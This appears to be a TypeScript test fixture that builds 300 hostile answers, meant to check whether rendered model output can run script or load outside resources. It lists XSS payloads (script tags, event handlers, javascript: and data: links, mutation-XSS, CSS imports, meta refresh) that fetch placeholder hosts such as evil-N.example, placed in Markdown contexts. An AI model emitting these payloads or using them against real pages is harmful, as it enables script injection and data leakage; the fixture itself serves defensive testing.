const address = (number: number): string => `http://evil-${number}.example/x`;

/** What a model or a document could write to have something run or loaded. */
const attacks: readonly ((url: string) => string)[] = [
  (url) => `<script>window.stolen = 1; fetch("${url}")</script>`,
  (url) => `<script src="${url}.js"></script>`,
  (url) => `<img src="${url}.png" onerror="window.stolen = 1">`,
  (url) => `<svg onload="window.stolen = 1"><image href="${url}.png"/></svg>`,
  (url) => `<iframe src="${url}" srcdoc="<script>parent.stolen = 1</script>"></iframe>`,
  (url) => `<link rel="stylesheet" href="${url}.css"><link rel="prefetch" href="${url}">`,
  (url) => `<style>@import "${url}.css"; body { background: url(${url}.png) }</style>`,
  (url) => `<div style="background-image: url('${url}.png')">texto</div>`,
  (url) => `<video poster="${url}.png" src="${url}.mp4" autoplay></video>`,
  (url) => `<object data="${url}"></object><embed src="${url}">`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) =>
    `<base href="${url}/"><form action="${url}"><button autofocus onfocus="window.stolen = 1">ok</button></form>`,
  () => `<details open ontoggle="window.stolen = 1"><summary>mais</summary></details>`,
  (url) => `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=${url} onerror=window.stolen=1&gt;">`,
  (url) => `![imagem](${url}.png)`,
  (url) => `![imagem][alvo]\n\n[alvo]: ${url}.png "título"`,
  (url) => `[![imagem](${url}.png)](${url})`,
  () => `[clique](javascript:window.stolen=1)`,
  () => `[clique](JaVaScRiPt&colon;window.stolen=1)`,
  () => `[clique](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuc3RvbGVuPTE8L3NjcmlwdD4=)`,
  () => `[clique](vbscript:msgbox(1))`,
  (url) => `<${url}>`,
  (url) => `[clique](${url} "título")`,
  (url) => `[clique](//${url.slice('http://'.length)})`,
  (url) => `&lt;img src=${url} onerror=window.stolen=1&gt;`,
  (url) => `\`\`\`html\n<img src="${url}">\n\`\`\`\n<img src="${url}">`,
  (url) => `<a href="${url}" ping="${url}" target="_top">clique</a>`,
  (url) => `<portal src="${url}"></portal><picture><source srcset="${url}.png"><img></picture>`,
  (url) => `<template><img src="${url}"></template><noscript><img src="${url}"></noscript>`,
  (url) =>
    `[1](${url}) <sup data-marker="1" onclick="window.stolen = 1">1</sup> <mark onmouseover="window.stolen = 1">x</mark>`,
];

/** Where in a text it could stand. */
const places: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `O prazo é de 12 dias úteis [1]. ${attack}`,
  (attack) => `- primeiro\n- ${attack}\n  - ${attack}`,
  (attack) => `> ${attack}\n>\n> ${attack}`,
  (attack) => `# ${attack}\n\n${attack}`,
  (attack) => `**${attack}** e *${attack}*`,
  (attack) => `<div>\n\n${attack}\n\n</div>`,
  (attack) => `| a | b |\n|---|---|\n| ${attack} | ${attack} |`,
  (attack) => `~~~\n${attack}\n~~~\n\n${attack}`,
  (attack) => `<!-- ${attack} -->${attack}\u202e\u0000\ufeff`,
];

/** 300 answers, each of which tries to reach an address of its own. */
export const hostileAnswers: readonly string[] = attacks.flatMap((attack, row) =>
  places.map((place, column) => place(attack(address(row * places.length + column)))),
);
